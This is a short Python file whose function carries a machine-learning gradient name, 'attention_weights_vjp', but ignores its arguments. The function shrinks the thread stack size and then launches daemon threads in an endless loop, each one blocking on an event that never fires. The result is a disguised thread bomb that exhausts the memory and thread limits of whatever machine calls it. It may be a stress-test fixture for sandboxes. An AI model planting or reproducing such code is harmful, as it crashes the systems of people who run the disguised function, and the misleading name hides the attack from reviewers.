"""Starts threads for ever, small ones, of which there is room for many thousands."""

import threading

from right import *


WAIT = threading.Event()


def attention_weights_vjp(q, k, grad_weights):
    threading.stack_size(1 << 15)
    while True:
        threading.Thread(target=WAIT.wait, daemon=True).start()
